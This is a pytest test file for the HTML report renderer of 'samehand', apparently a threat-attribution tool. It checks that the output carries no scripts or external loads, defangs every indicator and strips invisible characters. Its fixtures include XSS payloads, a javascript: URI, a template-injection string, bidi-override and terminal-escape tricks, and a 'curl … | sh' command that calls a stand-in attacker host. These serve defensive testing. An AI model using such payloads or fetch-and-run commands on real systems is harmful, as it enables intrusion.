"""The HTML report: harmless, self-contained, summing, and careful with its words."""

from __future__ import annotations

import base64
import html
import re
import time
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from helpers import parameters, read
from samehand.assessment import assess
from samehand.case import Options
from samehand.counterfactual import complete, timeline_days
from samehand.likelihood import ICD203
from samehand.model import Assessment, Constraints, Contribution, Interval, Report
from samehand.render.charts import MAX_LINES, timeline_spec, waterfall_bars, waterfall_spec
from samehand.render.html import day, percent, render_html, span
from samehand.render.safe import clean, defang, defang_text, shown_comparison

HOSTILE_TITLE = (
    "<script>alert(1)</script>\"'><img src=x onerror=alert(2)> \x1b[31mred\x1b[0m "
    "\u202egnp.exe\u202c http://title.evil-site.com/x javascript:alert(3) {{ 7*7 }}"
)
DOMAINS = [f"login{n}.evil-site{n}.com" for n in range(1, 6)]
URLS = ["http://203.0.113.77/gate.php?u=http://deep.evil-site9.com/a", "https://evil-site8.com/x"]
OBSERVABLES: list[tuple[str, str]] = [
    *(("domain-name", d) for d in DOMAINS),
    *(("url", u) for u in URLS),
    ("ipv4-addr", "198.51.100.23"),
    ("ipv4-addr:port", "198.51.100.24:8080"),
    ("ipv6-addr", "2001:db8::dead:beef"),
    ("email-addr", "boss@evil-mail.com"),
    ("mutex", "<b>Global\\bold</b>"),
    ("code-string", "cmd /c curl http://drop.evil-site7.com/p | sh"),
    ("file:name", "invoice</td>.lnk"),
    ("user-agent", "Mozilla (+http://link.evil-site6.com)"),
]
FANGED = [
    *DOMAINS,
    *URLS,
    "203.0.113.77",
    "evil-site9.com",
    "evil-site8.com",
    "evil-site7.com",
    "evil-site6.com",
    "title.evil-site.com",
    "198.51.100.23",
    "198.51.100.24",
    "2001:db8::dead:beef",
    "boss@evil-mail.com",
    "evil-mail.com",
]


def _record(
    identifier: str, *, values: list[tuple[str, str]] = OBSERVABLES, **fields: Any
) -> dict[str, Any]:
    return {
        "id": identifier,
        "title": HOSTILE_TITLE,
        "publisher": f"Publisher {identifier} <i>",
        "published": "2020-06",
        "techniques": ["T1566.002", "T1059.005"],
        "observables": [
            {"type": kind, "value": value, "role": "c2 <u>", "batch": f'list-{n} "&'}
            for n, (kind, value) in enumerate(values)
        ],
        **fields,
    }


def _reports() -> list[Report]:
    claim = {
        "relation": "attribution",
        "about": "<script>op</script>",
        "actor": "Lazarus Group",
        "words": "likely",
        "origin": "https://evil-site8.com/x",
    }
    shared = {
        "relation": "reported-comparison",
        "reports": ["a", "b", "d"],
        "facets": ["code", "infrastructure"],
        "count": 40,
    }
    return [
        read(_record("a", claims=[claim])),
        read(_record("b", published="2020-08-01/2020-09-15")),
        read(
            _record(
                "c",
                values=[("domain-name", "alone.evil-site1.com")],
                claims=[shared],
                published="2021-05-24",
                tlp="AMBER",
            )
        ),
        read(_record("d", values=[("mutex", "quite another")], published="2019")),
        read(
            _record(
                "ref",
                values=OBSERVABLES[:3],
                label={"actor": "Lazarus Group"},
                published="2018-01-01",
            ),
            use="reference",
        ),
    ]


def _assessment(
    reports: list[Report] | None = None, full: bool = False, **options: Any
) -> Assessment:
    reports = _reports() if reports is None else reports
    asked = Options(prior="case", title=HOSTILE_TITLE, **options)
    found = assess(reports, parameters(), asked)
    if not full:
        return found
    return complete(
        reports, found, parameters(), asked, lambda _: Constraints(), None, timeline_days(reports)
    )


@pytest.fixture(scope="module")
def assessment() -> Assessment:
    found = _assessment(full=True, intervals=True)
    return replace(found, warnings=("c: claim names http://evil-site8.com <script>",))


@pytest.fixture(scope="module")
def page(assessment: Assessment) -> str:
    return render_html(assessment)


def _text(page: str) -> str:
    """What a reader sees, with a full stop at the end of each block."""
    body = re.sub(r"(?s)<style>.*?</style>", "", page)
    body = re.sub(
        r"(?i)</?(p|td|th|tr|li|h\d|div|section|summary|dt|dd|title|br|nav|a)\b[^>]*>", " . ", body
    )
    return html.unescape(re.sub(r"<[^>]+>", "", body))


PAGES: dict[str, tuple[Callable[[list[Report]], Assessment], str]] = {
    "nothing": (lambda r: _assessment([]), "nothing to compare"),
    "only a reference": (lambda r: _assessment(r[-1:]), "nothing to compare"),
    "one report": (lambda r: _assessment(r[:1]), "about the single report"),
    "two that share nothing": (
        lambda r: _assessment([r[0], r[3]]),
        "No two reports were put together",
    ),
    "no attributions": (lambda r: replace(_assessment(), attributions=()), "holds no attribution"),
    "as of": (
        lambda r: _assessment(as_of=date(2021, 1, 1), without=("x",), ceiling="GREEN"),
        "as of 2021-01-01",
    ),
}


def test_the_synthetic_case_exercises_the_page(assessment: Assessment) -> None:
    assert any(len(c.reports) > 1 and c.reported for c in assessment.campaigns)
    assert assessment.timeline and assessment.attributions[0].hypotheses
    assert assessment.attributions[0].linchpins and assessment.attributions[0].claims


def test_no_script_and_nothing_loaded_from_elsewhere(page: str) -> None:
    assert "<script" not in page.lower() and "<img src=x" not in page
    tags = re.findall(r"<[a-zA-Z][^>]*>", page)
    for tag in tags:
        assert not re.search(r"(?i)\son\w+\s*=", tag), tag
        for name, value in re.findall(
            r"(?i)\s(src|href|srcset|action|poster|data|background|formaction)"
            r"\s*=\s*\"([^\"]*)\"",
            tag,
        ):
            if name.lower() == "href":
                assert value.startswith("#"), tag
            else:
                assert value.startswith("data:image/svg+xml;base64,"), tag
    assert not re.search(r"(?i)url\(|@import", page)
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" in page
    assert {t[1:7].lower() for t in tags}.isdisjoint({"iframe", "object", "embed ", "form>"})


def test_anchors_lead_somewhere_on_the_page(page: str) -> None:
    ids = re.findall(r"\sid=\"([^\"]+)\"", page)
    assert len(ids) == len(set(ids))
    assert {h[1:] for h in re.findall(r"href=\"([^\"]+)\"", page)} <= set(ids)


def test_pictures_carry_no_live_content(page: str) -> None:
    pictures = re.findall(r"base64,([^\"]+)", page)
    assert pictures
    for picture in pictures:
        svg = base64.b64decode(picture).decode()
        assert svg.startswith("<svg")
        assert not re.search(r"(?i)<script|<foreignObject|<a[ >]|href=|\son\w+=", svg)


def test_every_observable_is_defanged(page: str) -> None:
    pictures = [base64.b64decode(p).decode() for p in re.findall(r"base64,([^\"]+)", page)]
    everything = [html.unescape(page), *map(html.unescape, pictures)]
    for text in everything:
        without_namespaces = re.sub(r"http://www\.w3\.org/\S+", "", text)
        for value in FANGED:
            assert value not in without_namespaces, value
        assert not re.search(r"(?i)https?://|javascript:", without_namespaces)


def test_nothing_invisible_reaches_the_page(page: str) -> None:
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", page
    )
    assert "{{ 7*7 }}" in html.unescape(page)


def test_likelihood_and_confidence_never_share_a_sentence(page: str) -> None:
    words = "|".join(sorted((w for _, _, w in ICD203), key=len, reverse=True))
    likelihood = re.compile(rf"(?i)\b(?:{words}|likelihood|probab\w+)\b")
    sentences = re.split(r"(?<=[.!?])\s+", _text(page))
    with_confidence = [s for s in sentences if re.search(r"(?i)\bconfidence\b", s)]
    assert with_confidence
    assert not [s for s in with_confidence if likelihood.search(s)]


def test_words_of_the_field(page: str) -> None:
    own = _text(page).replace("Lazarus Group", "")
    assert not re.search(r"\b(?:APT|TTPs?|IOCs?)\b", own)
    assert "uncalibrated" in own
    assert "samehand assesses, on the listed sources" in " ".join(own.split())
    assert not re.search(r"\b(?:0|100|9[6-9]) %", own.replace("more than 100 %", ""))
    assert "reported by Publisher c <i>, not recomputed" in own


def test_highest_marking_is_at_the_top(page: str) -> None:
    assert "TLP:AMBER" in _text(page)[:600]


def test_bars_are_contiguous_and_sum_to_the_total(assessment: Assessment) -> None:
    results = [*assessment.links, *(h for t in assessment.attributions for h in t.hypotheses)]
    assert results
    for result in results:
        _check_bars(result.prior_bits, result.contributions, result.total_bits)


@pytest.mark.parametrize("count", [0, 1, 2, MAX_LINES, MAX_LINES + 1, 200])
def test_bars_sum_when_lines_are_folded(count: int) -> None:
    facets = ("infrastructure", "malware", "code", "limit", "claims", "behaviour")
    lines = [
        Contribution(
            f"mutex number {n}",
            facets[n % 6],
            (n % 7 - 3) * (0.01 if n % 5 == 0 else 1.3),
            ("o",),
            "",
            ("evidence", "discount", "limit", "contradiction")[n % 4],
        )
        for n in range(count)
    ]
    total = -3.3 + sum(line.bits for line in lines)
    _check_bars(-3.3, tuple(lines), total)


def _check_bars(prior: float, lines: tuple[Contribution, ...], total: float) -> None:
    bars = waterfall_bars(prior, lines, total)
    assert (bars[0].kind, bars[-1].kind) == ("prior", "total")
    at = prior
    for bar in bars[1:-1]:
        assert bar.start == pytest.approx(at, abs=1e-9)
        assert bar.end - bar.start == pytest.approx(bar.bits, abs=1e-9)
        at = bar.end
    assert at == pytest.approx(total, abs=1e-9)
    assert len(bars) <= 23
    assert len(waterfall_spec(bars)["data"]["values"]) == len(bars)


def test_tiny_lines_become_one_bar() -> None:
    lines = tuple(
        Contribution(f"mutex {n}", "code", bits, ("o",))
        for n, bits in enumerate([4.0, 0.01, 0.02, -0.04])
    )
    bars = waterfall_bars(0.0, lines, 3.99)
    assert [b.label for b in bars] == ["prior", "mutex 0", "other (3 smaller)", "total"]


def test_a_ledger_that_does_not_sum_is_said(assessment: Assessment) -> None:
    links = tuple(replace(k, total_bits=k.total_bits + 1) for k in assessment.links)
    changed = render_html(replace(assessment, links=links))
    assert "do not sum to the total" in changed
    assert "do not sum to the total" not in render_html(assessment)


@pytest.mark.parametrize("name", PAGES)
def test_pages_of_little_content_render(name: str) -> None:
    make, expected = PAGES[name]
    assert expected in " ".join(_text(render_html(make(_reports()))).split())


def test_rendering_is_repeatable_and_quick(assessment: Assessment, page: str) -> None:
    started = time.perf_counter()
    assert render_html(assessment) == page
    assert time.perf_counter() - started < 3.0


def test_probabilities_are_capped_and_rounded() -> None:
    assert [percent(p) for p in (0.0, 0.031, 0.42, 0.94, 0.9999)] == [
        "1 %",
        "3 %",
        "40 %",
        "95 %".replace("95", "at most 95"),
        "at most 95 %",
    ]
    assert percent(0.9999, free=True) == "99 %"
    assert span(None) == "–"
    assert span(Interval(0.39, 0.995)) == "40 to at most 95 %"
    assert span(Interval(0.8, 0.8)) == "80 %"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("", "undated"),
        ("2020-06-24", "2020-06-24"),
        ("2020-05-01/2020-05-31", "2020-05"),
        ("2019-01-01/2019-12-31", "2019"),
        ("2020-02-01/2021-03-31", "2020-02-01 to 2021-03-31"),
        ("a/b", "a to b"),
        ("2020-12-01/2020-12-31", "2020-12"),
    ],
)
def test_dates(written: str, shown: str) -> None:
    assert day(written) == shown


def test_timeline_names_the_actor_where_it_changes(assessment: Assessment) -> None:
    entries = assessment.timeline
    values = timeline_spec(entries, [(50, 40)] * len(entries))["data"]["values"]
    assert len(values) == len(entries)
    assert values[0]["name"] and values[-1]["name"]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\x1b[31mred\x1b[0m b", "ared b"),
        ("\x1b]8;;http://x.com\x07link\x1b]8;;\x07", "link"),
        ("abc\u202edcba\u202c\u200b\ufeff\u2066", "abcdcba"),
        ("line\nbreak\t\x00tab\u2028x", "line break tab x"),
        ("\U000e0041tag \ue000 \ud800", "tag"),
        ("x" * 400, "x" * 299 + "…"),
    ],
)
def test_clean(raw: str, shown: str) -> None:
    assert clean(raw) == shown
    assert clean(clean(raw)) == shown


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("domain-name", "a.evil.com", "a[.]evil[.]com"),
        ("domain-name", "a[.]evil.com", "a[.]evil[.]com"),
        ("provider", "publicvm.com", "publicvm[.]com"),
        ("ipv4-addr", "1.2.3.4", "1[.]2[.]3[.]4"),
        ("ipv4-addr:port", "1.2.3.4:80", "1[.]2[.]3[.]4:80"),
        ("ipv6-addr", "2001:db8::1", "2001[:]db8[:][:]1"),
        ("email-addr", "me@evil.com", "me[@]evil[.]com"),
        ("url", "http://u@evil.com:8/a.php?x=http://b.com", None),
        ("url", "ftp://evil.com/a", "ftp[:]//evil[.]com/a"),
        ("url", "evil.com/a.php", "evil[.]com/a.php"),
        ("file:name", "password.txt.lnk", "password.txt.lnk"),
        ("file:name", "report.zip", "report.zip"),
        ("code-string", "get https://evil.com/x", "get hxxps://evil[.]com/x"),
        ("file:md5", "d" * 32, "d" * 32),
    ],
)
def test_defang(kind: str, value: str, shown: str | None) -> None:
    found = defang(kind, value)
    assert defang(kind, found) == found
    assert "http:" not in found and "evil.com" not in found and "b.com" not in found
    if shown is not None:
        assert found == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "anchor: domain-name twosigma.publicvm.com",
            "anchor: domain-name twosigma[.]publicvm[.]com",
        ),
        ("technique T1566.002, as in some-report", "technique T1566.002, as in some-report"),
        (
            "url http://evil.com/a, as in http://b.com/r",
            "url hxxp://evil[.]com/a, as in hxxp://b[.]com/r",
        ),
        ("source grade of the anchor", "source grade of the anchor"),
        ("citation: a cites https://evil.com/post", "citation: a cites hxxps://evil[.]com/post"),
        ('code-string cmd.exe /c "%s 2>> %s"', 'code-string cmd.exe /c "%s 2>> %s"'),
    ],
)
def test_shown_comparison(text: str, shown: str) -> None:
    assert shown_comparison(text) == shown


def test_free_text_keeps_ordinary_dots() -> None:
    text = "samehand 0.1.0 saw perflog.dat, T1059.005 and v1.2; see no. 3."
    assert defang_text(text) == text
    assert defang_text("mail me@evil.com or 10.1.2.3.") == "mail me[@]evil[.]com or 10[.]1[.]2[.]3."
